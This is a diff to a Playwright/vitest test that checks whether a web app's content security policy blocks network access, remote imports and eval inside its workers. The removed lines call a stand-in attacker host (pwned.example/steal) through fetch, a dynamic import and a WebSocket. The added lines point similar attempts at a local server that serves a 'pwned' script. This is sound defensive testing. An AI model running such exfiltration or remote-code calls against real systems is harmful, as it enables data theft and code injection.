@@ -1,5 +1,7 @@
 /** Whatever somebody writes is text to everybody: no script of theirs runs, nothing is fetched, nothing opens. */
 import { readdir, readFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
 import {
@@ -441,34 +443,37 @@ describe('the content security policy', () => {
   });
 
   it('holds in the workers, which get no header from the server', async () => {
+    // It would answer whoever asks.
+    const reached: string[] = [];
+    const elsewhere = createServer((request, response) => {
+      reached.push(request.url ?? '');
+      const headers = { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' };
+      response.writeHead(200, headers).end('self.pwned = 1');
+    });
+    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+    const address = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;
     const { context, page } = await visit('tune');
     try {
       await page.getByText('Choose a model first').first().waitFor();
       await expect.poll(() => page.workers().length).toBe(2);
       for (const worker of page.workers()) {
-        const outcome = await worker.evaluate(async () => {
+        const outcome = await worker.evaluate(async (address) => {
+          const heard = (target: WebSocket | EventSource) =>
+            new Promise((resolve, reject) => {
+              target.onopen = resolve;
+              target.onerror = reject;
+            });
           const attempts: Record<string, () => unknown> = {
-            fetch: () => fetch('https://pwned.example/steal'),
-            import() {
-              const address = 'https://pwned.example/steal.js';
-              return import(/* @vite-ignore */ address);
-            },
-            socket: () =>
-              new Promise((resolve, reject) => {
-                const socket = new WebSocket('wss://pwned.example/steal');
-                socket.onopen = resolve;
-                socket.onerror = reject;
-              }),
+            fetch: () => fetch(`http://${address}fetch`),
+            import: () => import(/* @vite-ignore */ `http://${address}import.js`),
+            socket: () => heard(new WebSocket(`ws://${address}socket`)),
+            events: () => heard(new EventSource(`http://${address}events`)),
             eval: () => (0, eval)('1'),
             own: () => fetch(new URL('/favicon.svg', location.origin))
           };
-          // What is refused by the policy is said to the worker itself; what merely fails is not.
-          const refused: string[] = [];
-          addEventListener('securitypolicyviolation', (event) => {
-            refused.push(event.effectiveDirective);
-          });
           const results: Record<string, string> = {};
           for (const [name, attempt] of Object.entries(attempts)) {
+            // In a task of its own: what the debugger runs may evaluate, what a worker runs may not.
             results[name] = await new Promise<string>((resolve) => {
               setTimeout(() => {
                 Promise.resolve()
@@ -480,20 +485,15 @@ describe('the content security policy', () => {
               });
             });
           }
-          await new Promise((resolve) => setTimeout(resolve, 100));
-          return { results, refused };
-        });
-        expect(outcome.results).toEqual({
-          fetch: 'refused',
-          import: 'refused',
-          socket: 'refused',
-          eval: 'refused',
-          own: 'done'
-        });
-        expect(outcome.refused).toHaveLength(4);
+          return results;
+        }, address);
+        const refused = { fetch: 'refused', import: 'refused', socket: 'refused', events: 'refused' };
+        expect(outcome).toEqual({ ...refused, eval: 'refused', own: 'done' });
       }
+      expect(reached).toEqual([]);
     } finally {
       await context.close();
+      elsewhere.close();
     }
   });
 
